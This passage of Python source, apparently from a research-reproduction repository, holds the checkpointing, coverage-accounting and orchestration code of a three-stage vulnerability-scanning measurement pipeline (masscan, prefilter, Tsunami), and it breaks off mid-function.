circuit-breaker state, and the RNG/clock state of every seeded component
— so a killed run resumes where it stopped and produces a report
bit-identical to an uninterrupted run on the same seed.

Checkpoints are written at batch boundaries with a write-and-rename, so
a crash *during* a checkpoint leaves the previous one intact.

Sharded sweeps checkpoint at shard boundaries instead, storing each
completed shard's JSON-safe payload verbatim — the same immutable form
process-pool workers send back across the pickle boundary.  Because the
stored form never depends on *how* the shard ran, checkpoints are
executor-neutral: a sweep killed under the thread executor resumes under
the process executor (or vice versa) and still reproduces the
uninterrupted report bit for bit.  Worker count and executor are
deliberately absent from the resume-config check below for the same
reason.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from repro.util.errors import ConfigError

FORMAT_VERSION = 1


class Checkpointer:
    """Persists pipeline progress dictionaries to one JSON file.

    The payload layout is owned by :class:`~repro.core.pipeline.ScanPipeline`;
    this class only handles cadence (``every_batches``), atomicity, and
    format/config validation.
    """

    def __init__(self, path: str | Path, every_batches: int = 1) -> None:
        if every_batches < 1:
            raise ValueError("every_batches must be at least 1")
        self.path = Path(path)
        self.every_batches = every_batches

    def due(self, batches_done: int) -> bool:
        """Should a checkpoint be written after batch ``batches_done``?"""
        return batches_done % self.every_batches == 0

    def exists(self) -> bool:
        return self.path.exists()

    def save(self, payload: dict) -> None:
        """Atomically replace the checkpoint (write temp file, rename)."""
        payload = {"format_version": FORMAT_VERSION, **payload}
        tmp = self.path.with_name(self.path.name + ".tmp")
        tmp.write_text(json.dumps(payload))
        os.replace(tmp, self.path)

    def load(self) -> dict | None:
        """The stored payload, or None when no checkpoint exists yet."""
        if not self.path.exists():
            return None
        payload = json.loads(self.path.read_text())
        version = payload.get("format_version")
        if version != FORMAT_VERSION:
            raise ConfigError(
                f"unsupported checkpoint format version: {version!r}"
            )
        return payload

    def clear(self) -> None:
        """Remove the checkpoint (a completed sweep needs no resume)."""
        self.path.unlink(missing_ok=True)


def check_config_matches(payload: dict, **expected: object) -> None:
    """Refuse to resume a checkpoint taken under a different configuration.

    Resuming with a different seed, port list, or batch size would splice
    two incompatible sweeps together and silently corrupt the report.
    """
    for key, value in expected.items():
        stored = payload.get(key)
        if stored != value:
            raise ConfigError(
                f"checkpoint was taken with {key}={stored!r}, "
                f"but this pipeline uses {key}={value!r}"
            )
