"""Coverage accounting: exactly what a sweep did — and did not — scan.

The paper concedes its totals are a lower bound (§6.2): hosts that were
down, slow, or hostile during the sweep are silently absent from every
table.  A supervised runtime makes that loss *explicit*: every address
that enters a stage leaves it through exactly one of four doors —

* **completed** — it advanced to the next stage;
* **dropped** — the stage examined it and it did not qualify (closed
  ports, no signature match, plugin said "not vulnerable"), including
  the finer-grained **deadline_skipped** (the sweep deadline fired
  before it was probed) and **unreachable** (its shard was abandoned
  after exhausting the restart ladder);
* **quarantined** — the supervisor pulled it out of the sweep after
  repeated poison responses or stalls.

This extends the telemetry funnel invariant from ``in = out + dropped``
to ``in = out + dropped + quarantined``.  :class:`CoverageReport` keeps
these ledgers per stage, carries the quarantine lists, and *reconciles*
against the :class:`~repro.core.pipeline.ScanReport` it rides on: the
accounting is only trusted because it provably adds up to the report's
own totals.  Like every artifact in this repo, a CoverageReport is a
pure function of the seed — byte-identical across worker counts and
kill-and-resume.
"""

from __future__ import annotations

from dataclasses import dataclass, field, fields

from repro.net.ipv4 import IPv4Address
from repro.util.errors import CoverageError
from repro.util.tables import Table

#: stages in funnel order — kept in sync with repro.obs.telemetry
COVERAGE_STAGES: tuple[str, ...] = ("masscan", "prefilter", "tsunami")


@dataclass
class StageCoverage:
    """Where one stage's incoming hosts went.

    Invariant: ``entered == completed + dropped + quarantined``, with
    ``deadline_skipped + unreachable <= dropped`` (they classify *why*
    some of the dropped hosts were never examined).
    """

    entered: int = 0
    completed: int = 0
    dropped: int = 0
    quarantined: int = 0
    deadline_skipped: int = 0
    unreachable: int = 0

    def merge(self, other: "StageCoverage") -> None:
        for f in fields(self):
            setattr(self, f.name, getattr(self, f.name) + getattr(other, f.name))

    def copy(self) -> "StageCoverage":
        return StageCoverage(**self.to_dict())

    def to_dict(self) -> dict:
        return {f.name: getattr(self, f.name) for f in fields(self)}

    @classmethod
    def from_dict(cls, payload: dict) -> "StageCoverage":
        known = {f.name for f in fields(cls)}
        return cls(**{k: v for k, v in payload.items() if k in known})

    def check(self, stage: str) -> None:
        if self.entered != self.completed + self.dropped + self.quarantined:
            raise CoverageError(
                f"stage {stage!r} leaks hosts: entered={self.entered} != "
                f"completed={self.completed} + dropped={self.dropped} "
                f"+ quarantined={self.quarantined}"
            )
        if self.deadline_skipped + self.unreachable > self.dropped:
            raise CoverageError(
                f"stage {stage!r} over-classifies drops: "
                f"deadline_skipped={self.deadline_skipped} "
                f"+ unreachable={self.unreachable} > dropped={self.dropped}"
            )
        for f in fields(self):
            if getattr(self, f.name) < 0:
                raise CoverageError(
                    f"stage {stage!r} has negative {f.name}: "
                    f"{getattr(self, f.name)}"
                )


@dataclass
class CoverageReport:
    """The per-stage ledgers plus the supervisor's incident record."""

    stages: dict[str, StageCoverage] = field(
        default_factory=lambda: {s: StageCoverage() for s in COVERAGE_STAGES}
    )
    #: ip values of hosts pulled from the sweep (poison / stall strikes)
    quarantined_hosts: set[int] = field(default_factory=set)
    #: /24 network values quarantined after too many bad hosts
    quarantined_blocks: set[int] = field(default_factory=set)
    poison_events: int = 0
    stall_events: int = 0
    shard_restarts: int = 0
    shards_abandoned: int = 0
    #: shards whose deadline fired before the frame was exhausted
    deadline_hits: int = 0

    # -- recording -----------------------------------------------------------

    def charge(
        self,
        stage: str,
        entered: int,
        completed: int,
        quarantined: int = 0,
        deadline_skipped: int = 0,
        unreachable: int = 0,
    ) -> None:
        """Account one batch's flow through ``stage``.

        ``dropped`` is derived, so a charge can never violate the stage
        invariant — only mis-describe the flow, which :meth:`reconcile`
        catches against the report totals.
        """
        ledger = self.stages[stage]
        ledger.entered += entered
        ledger.completed += completed
        ledger.quarantined += quarantined
        ledger.dropped += entered - completed - quarantined
        ledger.deadline_skipped += deadline_skipped
        ledger.unreachable += unreachable

    # -- folding / serialisation ---------------------------------------------

    def merge(self, other: "CoverageReport") -> None:
        for stage, ledger in other.stages.items():
            self.stages.setdefault(stage, StageCoverage()).merge(ledger)
        self.quarantined_hosts |= other.quarantined_hosts
        self.quarantined_blocks |= other.quarantined_blocks
        self.poison_events += other.poison_events
        self.stall_events += other.stall_events
        self.shard_restarts += other.shard_restarts
        self.shards_abandoned += other.shards_abandoned
        self.deadline_hits += other.deadline_hits

    def copy(self) -> "CoverageReport":
        return CoverageReport.from_dict(self.to_dict())

    def to_dict(self) -> dict:
        return {
            "stages": {
                stage: self.stages[stage].to_dict()
                for stage in sorted(self.stages)
            },
            "quarantined_hosts": [
                str(IPv4Address(v)) for v in sorted(self.quarantined_hosts)
            ],
            "quarantined_blocks": [
                f"{IPv4Address(v)}/24" for v in sorted(self.quarantined_blocks)
            ],
            "poison_events": self.poison_events,
            "stall_events": self.stall_events,
            "shard_restarts": self.shard_restarts,
            "shards_abandoned": self.shards_abandoned,
            "deadline_hits": self.deadline_hits,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "CoverageReport":
        # Reports written before the supervised runtime carry no
        # coverage block; an empty payload yields the zero report.
        report = cls()
        for stage, raw in payload.get("stages", {}).items():
            report.stages[stage] = StageCoverage.from_dict(raw)
        report.quarantined_hosts = {
            IPv4Address.parse(text).value
            for text in payload.get("quarantined_hosts", [])
        }
        report.quarantined_blocks = {
            IPv4Address.parse(text.split("/")[0]).value
            for text in payload.get("quarantined_blocks", [])
        }
        report.poison_events = payload.get("poison_events", 0)
        report.stall_events = payload.get("stall_events", 0)
        report.shard_restarts = payload.get("shard_restarts", 0)
        report.shards_abandoned = payload.get("shards_abandoned", 0)
        report.deadline_hits = payload.get("deadline_hits", 0)
        return report

    # -- queries ---------------------------------------------------------------

    @property
    def degraded(self) -> bool:
        """Did the sweep give anything up to finish?"""
        return bool(
            self.quarantined_hosts
            or self.quarantined_blocks
            or self.shards_abandoned
            or self.deadline_hits
            or any(
                s.quarantined or s.deadline_skipped or s.unreachable
                for s in self.stages.values()
            )
        )

    def coverage_fraction(self) -> float:
        """Fraction of the planned frame that was actually probed.

        Based on stage I: an address counts as covered when the sweep
        reached it with at least one SYN probe — quarantine-gated,
        deadline-skipped, and abandoned-shard addresses do not.
        """
        ledger = self.stages.get("masscan", StageCoverage())
        if ledger.entered == 0:
            return 1.0
        skipped = (
            ledger.quarantined + ledger.deadline_skipped + ledger.unreachable
        )
        return (ledger.entered - skipped) / ledger.entered

    # -- checking ---------------------------------------------------------------

    def verify(self) -> None:
        """Raise :class:`CoverageError` unless every stage ledger balances."""
        for stage, ledger in self.stages.items():
            ledger.check(stage)

    def reconcile(self, report) -> None:
        """Cross-check the ledgers against a ScanReport's own totals.

        The accounting is only credible if it *adds up*: stage-I covered
        addresses must equal the port scan's address count, stage hand-offs
        must match, and stage-III completions must equal the report's
        vulnerable-host count.  Any mismatch means hosts leaked out of the
        books and raises :class:`CoverageError`.
        """
        self.verify()
        masscan = self.stages["masscan"]
        prefilter = self.stages["prefilter"]
        tsunami = self.stages["tsunami"]
        probed = masscan.entered - (
            masscan.quarantined + masscan.deadline_skipped + masscan.unreachable
        )
        checks = (
            ("stage-I probed addresses", probed,
             report.port_scan.addresses_scanned),
            ("stage-I open hosts", masscan.completed,
             len(report.port_scan.open_ports)),
            ("stage I->II hand-off", prefilter.entered, masscan.completed),
            ("stage II->III hand-off", tsunami.entered, prefilter.completed),
            ("stage-III candidates", tsunami.entered,
             report.total_awe_hosts()),
            ("stage-III vulnerable hosts", tsunami.completed,
             len(report.vulnerable_ips())),
        )
        for what, ledger_value, report_value in checks:
            if ledger_value != report_value:
                raise CoverageError(
                    f"coverage does not reconcile with the report: {what} "
                    f"is {ledger_value} in the ledger, {report_value} in "
                    f"the report"
                )

    # -- rendering ---------------------------------------------------------------

    def render(self) -> str:
        table = Table(
            "Coverage by stage (hosts)",
            ("stage", "entered", "completed", "dropped",
             "quarantined", "deadline-skipped", "unreachable"),
        )
        for stage in COVERAGE_STAGES:
            ledger = self.stages.get(stage, StageCoverage())
            table.add_row(
                stage, ledger.entered, ledger.completed, ledger.dropped,
                ledger.quarantined, ledger.deadline_skipped,
                ledger.unreachable,
            )
        lines = [
            table.render(),
            "",
            f"coverage fraction (stage I): {self.coverage_fraction():.4f}",
            f"run status: {'DEGRADED' if self.degraded else 'complete'}",
            f"quarantined hosts: {len(self.quarantined_hosts)}"
            + self._listing(self.quarantined_hosts, suffix=""),
            f"quarantined /24 blocks: {len(self.quarantined_blocks)}"
            + self._listing(self.quarantined_blocks, suffix="/24"),
            f"poison responses: {self.poison_events}"
            f"  stalls flagged: {self.stall_events}",
            f"shard restarts: {self.shard_restarts}"
            f"  shards abandoned: {self.shards_abandoned}"
            f"  shard deadlines hit: {self.deadline_hits}",
        ]
        return "\n".join(lines)

    @staticmethod
    def _listing(values: set[int], suffix: str, limit: int = 8) -> str:
        if not values:
            return ""
        shown = sorted(values)[:limit]
        text = ", ".join(f"{IPv4Address(v)}{suffix}" for v in shown)
        more = "" if len(values) <= limit else f", … +{len(values) - limit}"
        return f" ({text}{more})"
