"""The three-stage scanning pipeline (orchestration).

Wires stage I (masscan) → stage II (prefilter) → stage III (Tsunami) and
the version fingerprinter together, with the paper's interleaving: the
port scan yields batches, and each batch flows through the later stages
before the sweep continues, "to prevent running the next two stages on
hosts that went offline in the meantime".

The pipeline only sees a :class:`~repro.net.transport.Transport`; it runs
unchanged against the simulator or a real loopback socket.

Resilience (§6.2's "lower bound" gap): an optional
:class:`~repro.core.retry.RetryPolicy` threads one shared
:class:`~repro.core.retry.RetryExecutor` — with a per-host/per-/24
circuit breaker — through every stage, and an optional
:class:`~repro.core.checkpoint.Checkpointer` persists progress at batch
boundaries so a killed sweep resumes without re-scanning.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Iterable, Sequence

from repro.core.checkpoint import Checkpointer, check_config_matches
from repro.core.coverage import CoverageReport
from repro.core.fingerprint.fingerprinter import Fingerprint, VersionFingerprinter
from repro.core.fingerprint.knowledge_base import (
    KnowledgeBase,
    build_default_knowledge_base,
)
from repro.core.masscan import Masscan, PortScanResult
from repro.core.prefilter import Prefilter, PrefilterFinding
from repro.core.retry import CircuitBreaker, RetryExecutor, RetryPolicy, RetryStats
from repro.core.tsunami.engine import TsunamiEngine
from repro.core.tsunami.plugin import DetectionReport
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.obs.profile import ProfileRollup, WallProfile, wall_now
from repro.obs.telemetry import Telemetry, TelemetrySummary
from repro.util.clock import SimClock
from repro.util.rand import stable_hash


@dataclass
class AppObservation:
    """Everything the pipeline learned about one application on one host."""

    ip: IPv4Address
    slug: str
    port: int
    scheme: Scheme
    vulnerable: bool = False
    detection: DetectionReport | None = None
    fingerprint: Fingerprint | None = None

    @property
    def version(self) -> str | None:
        return self.fingerprint.version if self.fingerprint else None


@dataclass
class HostFinding:
    """Stage-II/III results for one responsive host."""

    ip: IPv4Address
    observations: dict[str, AppObservation] = field(default_factory=dict)

    @property
    def slugs(self) -> tuple[str, ...]:
        return tuple(sorted(self.observations))

    @property
    def vulnerable_slugs(self) -> tuple[str, ...]:
        return tuple(
            sorted(s for s, o in self.observations.items() if o.vulnerable)
        )


@dataclass
class ScanReport:
    """Aggregate output of one full pipeline run."""

    port_scan: PortScanResult = field(default_factory=PortScanResult)
    http_responses: dict[int, int] = field(default_factory=dict)
    https_responses: dict[int, int] = field(default_factory=dict)
    findings: dict[int, HostFinding] = field(default_factory=dict)
    detections: list[DetectionReport] = field(default_factory=list)
    #: what the resilience layer did (zeros when no RetryPolicy is set)
    retry_stats: RetryStats = field(default_factory=RetryStats)
    #: flattened telemetry counters + event/span totals for the run
    telemetry: TelemetrySummary = field(default_factory=TelemetrySummary)
    #: per-stage scanned/dropped/quarantined/skipped accounting
    coverage: CoverageReport = field(default_factory=CoverageReport)

    def finding_for(self, ip: IPv4Address) -> HostFinding:
        finding = self.findings.get(ip.value)
        if finding is None:
            finding = HostFinding(ip)
            self.findings[ip.value] = finding
        return finding

    # -- Table-3-shaped accessors ------------------------------------------

    def hosts_per_app(self) -> dict[str, int]:
        """Hosts running each application (counted once per host)."""
        counts: dict[str, int] = {}
        for finding in self.findings.values():
            for slug in finding.observations:
                counts[slug] = counts.get(slug, 0) + 1
        return counts

    def mavs_per_app(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for finding in self.findings.values():
            for slug in finding.vulnerable_slugs:
                counts[slug] = counts.get(slug, 0) + 1
        return counts

    def vulnerable_ips(self) -> list[IPv4Address]:
        return [
            finding.ip
            for finding in self.findings.values()
            if finding.vulnerable_slugs
        ]

    def observations(self) -> list[AppObservation]:
        return [
            observation
            for finding in self.findings.values()
            for observation in finding.observations.values()
        ]

    def total_awe_hosts(self) -> int:
        return len(self.findings)

    def merge(self, other: "ScanReport") -> None:
        self.port_scan.merge(other.port_scan)
        for port, count in other.http_responses.items():
            self.http_responses[port] = self.http_responses.get(port, 0) + count
        for port, count in other.https_responses.items():
            self.https_responses[port] = self.https_responses.get(port, 0) + count
        self.findings.update(other.findings)
        self.detections.extend(other.detections)
        self.retry_stats.merge(other.retry_stats)
        self.telemetry.merge(other.telemetry)
        self.coverage.merge(other.coverage)


@dataclass
class ScanPipeline:
    """Configurable three-stage pipeline."""

    transport: object  # Transport; typed loosely to avoid import cycles in docs
    ports: tuple[int, ...]
    seed: int = 0
    batch_size: int = 4096
    fingerprint: bool = True
    use_prefilter: bool = True
    knowledge_base: KnowledgeBase | None = None
    #: retry failed transport operations with backoff (None = fail fast)
    retry_policy: RetryPolicy | None = None
    #: time source for backoff charging and breaker cooldowns
    clock: SimClock | None = None
    #: stops hammering dead targets; auto-created when a policy is set
    circuit_breaker: CircuitBreaker | None = None
    #: shared observability handle; auto-created on the pipeline clock
    telemetry: Telemetry | None = None
    #: run the sweep as concurrent /24-aligned shards on this many worker
    #: threads (None = the classic sequential engine).  Output is
    #: byte-identical for every worker count; see repro.core.parallel.
    workers: int | None = None
    #: /24 blocks per shard when ``workers`` is set (kept in sync with
    #: repro.core.parallel.DEFAULT_SHARD_BLOCKS)
    shard_blocks: int = 256
    #: shard execution backend when ``workers`` is set: "thread" (shared
    #: memory, GIL-bound) or "process" (true multicore — the shard runner
    #: crosses the pickle boundary once per worker).  Output is
    #: byte-identical either way; see repro.core.parallel.
    executor: str = "thread"
    #: multiprocessing start method for the process executor (None =
    #: the REPRO_MP_START_METHOD env var, falling back to "spawn")
    mp_start_method: str | None = None
    #: a SupervisorConfig: run the sweep under the supervised runtime
    #: (escalation ladder, deadlines, quarantine); typed loosely to keep
    #: this module import-cycle-free with repro.core.supervisor
    supervisor: object | None = None
    #: runtime supervision handle for a shard-local pipeline — set by the
    #: SweepSupervisor, never by callers
    supervision: object | None = None
    #: arm wall-clock span stamps and wall-time attribution.  Profiling
    #: never changes canonical output: wall numbers live only in the
    #: ``wall_profile`` side book (see repro.obs.profile).
    profile: bool = False
    #: a ConsoleHub (repro.obs.console) to notify of sweep progress
    console: object | None = None

    def __post_init__(self) -> None:
        if self.telemetry is None:
            self.telemetry = Telemetry(clock=self.clock)
        if self.profile:
            self.telemetry.tracer.wall_clock = wall_now
        #: diagnostic wall-time book for the last run (empty when
        #: profiling is off); filled on the main thread only
        self.wall_profile = WallProfile()
        #: per-shard SimClock rollups from the last parallel run (empty
        #: when profiling is off or the run was sequential)
        self.shard_profiles: dict[int, ProfileRollup] = {}
        # Telemetry-aware transports (ChaosTransport) join the shared
        # handle unless the caller wired their own.  Decorator transports
        # are unwrapped through their ``inner`` attribute.
        target = self.transport
        while target is not None:
            if hasattr(target, "telemetry"):
                if target.telemetry is None:
                    target.telemetry = self.telemetry
                break
            target = getattr(target, "inner", None)
        if self.retry_policy is not None:
            if self.circuit_breaker is None:
                self.circuit_breaker = CircuitBreaker(
                    clock=self.clock, telemetry=self.telemetry
                )
            self._retry = RetryExecutor(
                self.retry_policy,
                rng=random.Random(stable_hash(self.seed, "retry")),
                clock=self.clock,
                breaker=self.circuit_breaker,
                telemetry=self.telemetry,
                supervision=self.supervision,
            )
        else:
            self._retry = None
        self._coverage = CoverageReport()
        self._masscan = Masscan(
            self.transport, self.ports, rng=random.Random(self.seed),
            retry=self._retry, telemetry=self.telemetry,
            supervision=self.supervision,
        )
        self._prefilter = Prefilter(
            self.transport, retry=self._retry, telemetry=self.telemetry
        )
        self._engine = TsunamiEngine(
            self.transport, retry=self._retry, telemetry=self.telemetry
        )
        if self.fingerprint:
            kb = self.knowledge_base or build_default_knowledge_base()
            self._fingerprinter = VersionFingerprinter(
                self.transport, kb, retry=self._retry, telemetry=self.telemetry
            )
        else:
            self._fingerprinter = None

    @property
    def engine(self) -> TsunamiEngine:
        return self._engine

    @property
    def prefilter(self) -> Prefilter:
        return self._prefilter

    @property
    def retry(self) -> RetryExecutor | None:
        return self._retry

    def run(
        self,
        candidates: Iterable[IPv4Address],
        checkpoint: Checkpointer | None = None,
    ) -> ScanReport:
        """Sweep ``candidates`` through all three stages.

        With a :class:`~repro.core.checkpoint.Checkpointer`, progress is
        persisted at batch boundaries, and an existing checkpoint file is
        resumed: already-scanned addresses are skipped and every seeded
        component continues its random sequence where it stopped, so the
        final report equals an uninterrupted run's bit-for-bit.

        With ``workers`` set, the sweep is dispatched to the sharded
        parallel engine instead: shard-local pipelines run concurrently
        and are folded deterministically (checkpoints then live at shard
        boundaries).

        With ``supervisor`` set, the sweep runs under the supervised
        runtime — the sharded engine wrapped in an escalation ladder
        with deadlines, watchdogs, and quarantine — and a degraded run
        returns a partial report whose coverage ledger says exactly what
        was given up.
        """
        if self.supervisor is not None and self.supervision is None:
            from repro.core.supervisor import SweepSupervisor

            engine = SweepSupervisor(
                self,
                workers=self.workers if self.workers is not None else 1,
                shard_blocks=self.shard_blocks,
                config=self.supervisor,
                executor=self.executor,
                mp_start_method=self.mp_start_method,
            )
            return engine.run(candidates, checkpoint)
        if self.workers is not None:
            from repro.core.parallel import ParallelScanEngine

            engine = ParallelScanEngine(
                self, workers=self.workers, shard_blocks=self.shard_blocks,
                executor=self.executor, mp_start_method=self.mp_start_method,
            )
            return engine.run(candidates, checkpoint)
        tel = self.telemetry
        if self.console is not None:
            self.console.attach_telemetry(tel)
        report = ScanReport()
        completed = 0
        batches_done = 0
        resumed = False
        if checkpoint is not None:
            payload = checkpoint.load()
            if payload is not None:
                completed, batches_done, report = self._restore_checkpoint(payload)
                resumed = True
        if not resumed:
            tel.events.info(
                "pipeline", "sweep-start",
                ports=len(self.ports), batch_size=self.batch_size,
            )
            tel.tracer.start("sweep")
        elif tel.tracer.active is None:
            # Checkpoint written before telemetry existed: no open-span
            # stack was restored, so open the sweep span here.
            tel.tracer.start("sweep")
        for batch in self._masscan.scan_in_batches(
            candidates, self.batch_size, skip=completed
        ):
            batch_span = tel.tracer.start("batch", index=batches_done)
            report.port_scan.merge(batch)
            self._run_later_stages(batch, report)
            completed += batch.addresses_scanned
            batches_done += 1
            batch_span.attrs["addresses"] = batch.addresses_scanned
            tel.tracer.end(batch_span)
            tel.events.info(
                "pipeline", "batch-complete",
                index=batches_done - 1,
                addresses=batch.addresses_scanned,
                open_hosts=len(batch.open_ports),
            )
            if self.supervision is not None:
                self.supervision.heartbeat(completed)
            if checkpoint is not None and checkpoint.due(batches_done):
                self._fold_stats(report)
                checkpoint.save(
                    self._checkpoint_payload(completed, batches_done, report)
                )
        if self.supervision is not None:
            self._finish_supervised(completed)
        sweep_span = tel.tracer.end()
        sweep_span.attrs["addresses"] = report.port_scan.addresses_scanned
        sweep_span.attrs["batches"] = batches_done
        tel.events.info(
            "pipeline", "sweep-complete",
            addresses=report.port_scan.addresses_scanned,
            awe_hosts=report.total_awe_hosts(),
            mav_hosts=len(report.vulnerable_ips()),
        )
        self._fold_stats(report)
        if checkpoint is not None:
            checkpoint.clear()  # a completed sweep must not be "resumed"
        if self.profile:
            self.wall_profile.note_rollup(
                ProfileRollup.from_spans(tel.tracer.finished)
            )
        if self.console is not None:
            self.console.finish_sweep(report)
        return report

    def rescan_hosts(
        self, addresses: Sequence[IPv4Address], ports_by_host: dict[int, tuple[int, ...]] | None = None
    ) -> ScanReport:
        """Re-scan known hosts (the observer's three-hourly sweep).

        Skips stage I's full port matrix when the interesting ports are
        already known from a previous scan.
        """
        tel = self.telemetry
        report = ScanReport()
        scan = PortScanResult()
        with tel.tracer.span("rescan", hosts=len(addresses)):
            for ip in addresses:
                ports = (
                    ports_by_host.get(ip.value, self.ports)
                    if ports_by_host
                    else self.ports
                )
                open_ports = [p for p in ports if self._masscan.probe_port(ip, p)]
                scan.addresses_scanned += 1
                scan.probes_sent += len(ports)
                scan.record(ip, open_ports)
            report.port_scan.merge(scan)
            self._run_later_stages(scan, report)
        tel.events.info(
            "pipeline", "rescan-complete",
            hosts=len(addresses), open_hosts=len(scan.open_ports),
        )
        self._fold_stats(report)
        return report

    # -- internals -----------------------------------------------------------

    def _run_later_stages(self, batch: PortScanResult, report: ScanReport) -> None:
        tel = self.telemetry
        sup = self.supervision
        # Addresses the quarantine gate refused to probe at all: they
        # entered stage I but left through the quarantined door.
        gate_skips = sup.drain_gate_skips() if sup is not None else 0
        entered = batch.addresses_scanned + gate_skips
        open_hosts = len(batch.open_ports)
        # Batches partition the address space, so per-batch funnel charges
        # sum to exactly the ScanReport totals.
        tel.funnel("masscan", entered, open_hosts, quarantined=gate_skips)
        self._coverage.charge(
            "masscan", entered, open_hosts, quarantined=gate_skips
        )
        with tel.tracer.span("stage:prefilter", hosts=open_hosts):
            if self.use_prefilter:
                findings = self._prefilter.run(batch)
            else:
                findings = self._probe_without_prefilter(batch)
        # Open hosts quarantined by stage I/II strikes never reach stage
        # III, whatever partial findings stage II managed to fetch first.
        quarantined_open = self._quarantined_values(batch.open_ports)
        findings = [f for f in findings if f.ip.value not in quarantined_open]
        candidate_ips = {finding.ip.value for finding in findings}
        tel.funnel(
            "prefilter", open_hosts, len(candidate_ips),
            quarantined=len(quarantined_open),
        )
        self._coverage.charge(
            "prefilter", open_hosts, len(candidate_ips),
            quarantined=len(quarantined_open),
        )
        with tel.tracer.span("stage:tsunami", hosts=len(candidate_ips)):
            for finding in findings:
                if sup is not None and sup.is_quarantined_value(finding.ip.value):
                    # Quarantined mid-stage (or /24 collateral): keep the
                    # host's entry so stage-III accounting still balances,
                    # but run no plugins against it.
                    report.finding_for(finding.ip)
                    continue
                self._verify_and_fingerprint(finding, report)
        vulnerable_hosts = sum(
            1 for value in candidate_ips
            if report.findings[value].vulnerable_slugs
        )
        quarantined_candidates = sum(
            1 for value in self._quarantined_values(candidate_ips)
            if not report.findings[value].vulnerable_slugs
        )
        tel.funnel(
            "tsunami", len(candidate_ips), vulnerable_hosts,
            quarantined=quarantined_candidates,
        )
        self._coverage.charge(
            "tsunami", len(candidate_ips), vulnerable_hosts,
            quarantined=quarantined_candidates,
        )

    def _quarantined_values(self, values: Iterable[int]) -> set[int]:
        sup = self.supervision
        if sup is None:
            return set()
        return {v for v in values if sup.is_quarantined_value(v)}

    def _finish_supervised(self, completed: int) -> None:
        """Close the coverage books for a supervised (shard) sweep.

        Charges the deadline-skipped remainder of the frame and copies
        the supervision record — quarantine lists, poison/stall tallies —
        into the coverage ledger the report will carry.
        """
        sup = self.supervision
        tel = self.telemetry
        remaining = sup.planned - completed - sup.gate_skips_total
        if sup.deadline_hit and remaining > 0:
            tel.funnel("masscan", remaining, 0)
            self._coverage.charge(
                "masscan", remaining, 0, deadline_skipped=remaining
            )
            tel.events.warn(
                "supervisor", "deadline",
                skipped=remaining, deadline=sup.deadline,
            )
        cov = self._coverage
        cov.poison_events = sup.poison_events
        cov.stall_events = sup.stall_events
        cov.deadline_hits = 1 if sup.deadline_hit else 0
        cov.quarantined_hosts = set(sup.quarantine.hosts)
        cov.quarantined_blocks = set(sup.quarantine.blocks)

    def _probe_without_prefilter(self, batch: PortScanResult) -> list[PrefilterFinding]:
        """Ablation mode: skip signature matching, try *every* plugin.

        Stage II still has to discover which scheme the port speaks, but
        instead of narrowing candidates it hands every open port to every
        plugin — the configuration the prefilter ablation measures.
        """
        from repro.util.errors import TransportError

        all_slugs = tuple(p.slug for p in self._engine.plugins)
        findings = []
        for ip in batch.hosts_with_open_ports():
            for port in batch.ports_of(ip):
                for scheme in self._prefilter.schemes_for_port(port):
                    try:
                        response = self._prefilter.fetch_landing(ip, port, scheme)
                    except TransportError:
                        continue
                    self._prefilter.stats.note(ip, port, scheme)
                    findings.append(
                        PrefilterFinding(ip, port, scheme, all_slugs, response.body)
                    )
        return findings

    def _verify_and_fingerprint(
        self, finding: PrefilterFinding, report: ScanReport
    ) -> None:
        host_finding = report.finding_for(finding.ip)
        detections = self._engine.scan_target(
            finding.ip, finding.port, finding.scheme, finding.candidates
        )
        detected_slugs = {d.slug for d in detections}
        report.detections.extend(
            d for d in detections
            if not (
                d.slug in host_finding.observations
                and host_finding.observations[d.slug].vulnerable
            )
        )

        fingerprint = None
        if self._fingerprinter is not None:
            with self.telemetry.tracer.span(
                "stage:fingerprint", host=str(finding.ip), port=finding.port
            ):
                fingerprint = self._fingerprinter.fingerprint(
                    finding.ip, finding.port, finding.scheme, finding.candidates
                )

        # Attribute the host to application(s): a fingerprint pins the
        # slug; otherwise every stage-II candidate remains attributed
        # (multiple candidates on one body are rare and stage III keeps
        # the vulnerable bit per-application anyway).
        slugs: tuple[str, ...]
        if fingerprint is not None:
            slugs = (fingerprint.slug,)
        else:
            slugs = finding.candidates
        for slug in slugs:
            observation = host_finding.observations.get(slug)
            if observation is None:
                observation = AppObservation(
                    finding.ip, slug, finding.port, finding.scheme
                )
                host_finding.observations[slug] = observation
            if slug in detected_slugs:
                observation.vulnerable = True
                observation.detection = next(
                    d for d in detections if d.slug == slug
                )
            if fingerprint is not None and fingerprint.slug == slug:
                observation.fingerprint = fingerprint
        # Detections for slugs the fingerprinter excluded still count.
        for detection in detections:
            if detection.slug not in host_finding.observations:
                observation = AppObservation(
                    finding.ip, detection.slug, finding.port, finding.scheme,
                    vulnerable=True, detection=detection,
                )
                host_finding.observations[detection.slug] = observation

    def _fold_stats(self, report: ScanReport) -> None:
        self._fold_prefilter_stats(report)
        if self._retry is not None:
            # Overwrite, not merge: executor stats are cumulative and this
            # fold runs once per batch when checkpointing is on.
            report.retry_stats = self._retry.stats.copy()
        # Same contract: the telemetry summary and coverage ledger are
        # cumulative.
        report.telemetry = self.telemetry.summary()
        report.coverage = self._coverage.copy()

    def _fold_prefilter_stats(self, report: ScanReport) -> None:
        for port, count in self._prefilter.stats.http_responses.items():
            report.http_responses[port] = count
        for port, count in self._prefilter.stats.https_responses.items():
            report.https_responses[port] = count

    # -- checkpoint/resume ----------------------------------------------------

    def _checkpoint_payload(
        self, completed: int, batches_done: int, report: ScanReport
    ) -> dict:
        """Everything a fresh pipeline needs to continue this sweep."""
        from repro.core.serialize import report_to_dict

        transport_state = None
        snapshot = getattr(self.transport, "snapshot_state", None)
        if callable(snapshot):
            transport_state = snapshot()
        return {
            "seed": self.seed,
            "ports": list(self.ports),
            "batch_size": self.batch_size,
            "completed_addresses": completed,
            "batches_done": batches_done,
            "report": report_to_dict(report),
            "prefilter": {
                "http_responses": dict(self._prefilter.stats.http_responses),
                "https_responses": dict(self._prefilter.stats.https_responses),
                "responsive_hosts": sorted(self._prefilter.stats.responsive_hosts),
            },
            "clock_now": self.clock.now if self.clock is not None else None,
            "retry": (
                self._retry.snapshot_state() if self._retry is not None else None
            ),
            "breaker": (
                self.circuit_breaker.snapshot_state()
                if self.circuit_breaker is not None
                else None
            ),
